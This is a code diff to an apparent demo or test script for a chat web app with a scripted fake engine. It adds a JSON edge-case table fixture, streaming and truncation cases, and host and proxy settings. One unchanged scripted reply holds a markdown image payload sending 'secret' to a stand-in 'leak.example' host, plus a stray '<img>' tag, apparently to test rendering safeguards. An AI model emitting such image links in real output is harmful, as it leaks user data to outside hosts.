@@ -18,11 +18,19 @@ from twokeys.engines.scripted import End, Fail, Say, ScriptedEngine, Stall, Step
 from twokeys.errors import EngineDied
 from twokeys.services import build_services
 from twokeys.types import GenerationRequest, Settings
+from twokeys.web.entry import load_entry
 from twokeys.web.server import serve
 from twokeys.web.site import Site
 
 PAGES = ("compare", "handbook")
 MARKDOWN = (Path(__file__).parent / "answer.md").read_text(encoding="utf-8")
+
+TABLE = (
+    '[{"part": "螺丝 M6", "count": 12345678901234567890, "in stock": true, '
+    '"sizes": ["S", "L"], "note": null},\n'
+    '{"part": "a <b> \\"quoted\\"\\nsecond line", "count": 1.10, "in stock": false, "sizes": [], '
+    '"note": {"by": "Ann", "rows": [{"a": 1}]}}]'
+)
 
 
 def long_answer(tokens: int) -> str:
@@ -50,6 +58,12 @@ def script(request: GenerationRequest) -> Sequence[Step]:
             Say(
                 "![secret](https://leak.example/x.png?q=secret) and [click](https://out.example/) <img src=x>"
             )
+        ]
+    if kind == "table":
+        pace = 0.02 if "slowly" in words else 0
+        return [
+            Say(TABLE[:-12] if "half" in words else TABLE, pace),
+            End("length" if "half" in words else "stop"),
         ]
     if kind == "cut":
         return [Say("The first half of a sentence that", 0.001), End("length")]
@@ -83,6 +97,10 @@ def main() -> None:
         host,
         port,
         open_browser=False,
+        entry=load_entry(config.home) if "DEMO_ENTRY" in os.environ else None,
+        allowed_hosts=os.environ.get("DEMO_HOSTS", "").split(),
+        base_path=os.environ.get("DEMO_BASE", ""),
+        trusted_proxies=os.environ.get("DEMO_PROXIES", "").split(),
         routes=[Route("/demo/ask", ask, methods=["POST"])],
     )
 
